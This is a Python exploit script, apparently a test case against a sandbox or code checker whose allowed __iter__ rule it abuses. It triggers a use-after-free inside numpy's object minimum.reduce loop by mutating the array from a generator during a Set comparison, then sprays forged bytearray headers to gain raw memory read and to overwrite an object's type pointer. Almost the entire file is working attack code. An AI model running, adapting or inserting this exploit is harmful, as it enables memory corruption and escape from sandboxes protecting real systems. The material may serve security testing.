# source: collections/abc.py Set.__le__ + KeysView.__iter__; the check's __iter__ rule lets __iter__ 'iterate an attribute' (sorted form); numpy OBJECT_minimum reduce loop
# family: script function run by an iterator held in an attribute (variant: sorted) through an allowed __iter__, from a library Set comparison inside numpy's object min loop -> use-after-free -> forged bytearray
# goal: dangling reference to a freed frozenset from np.minimum.reduce, reclaimed as a fake bytearray: raw memory read and type-pointer write
import collections.abc
import numpy as np
import pandas as pd


class Basket:
    def __init__(self, items, src):
        self.items = tuple(items)
        self.src = src

    def __len__(self):
        return len(self.items)

    def __iter__(self):
        yield from sorted(self.src)


class Box:
    pass


class Other:
    pass


book = np.empty(2, dtype=object)


def feed():
    book[1] = 0
    yield 1


def q(n):
    return n.to_bytes(8, "little")


def bytearray_type():
    h = hash(bytearray) & (2**64 - 1)
    return ((h << 4) | (h >> 60)) & (2**64 - 1)


def where(o):
    return int(repr(o).split(" at ")[1].rstrip(">"), 16)


book[0] = collections.abc.KeysView(Basket([1], feed()))
book[1] = frozenset([2])
res = np.minimum.reduce(book)
fake = q(2**40) + q(bytearray_type()) + q(2**62) + q(2**62) + q(0) + q(0) + q(0)
spray = []
for k in range(8):
    b = bytearray(215)
    b[16:16 + len(fake)] = fake
    spray.append(b)
print("dangling object is now a bytearray:", type(res) is bytearray, len(res))
bx = Box()
ot = Other()
wb, wo = where(bx), where(ot)
print("Box at", hex(wb), "raw memory:", bytes(res[wb:wb + 16]).hex())
res[wb + 8:wb + 16] = res[wo + 8:wo + 16]
print("after a raw write of its type pointer, type(bx) is Other:", type(bx) is Other)
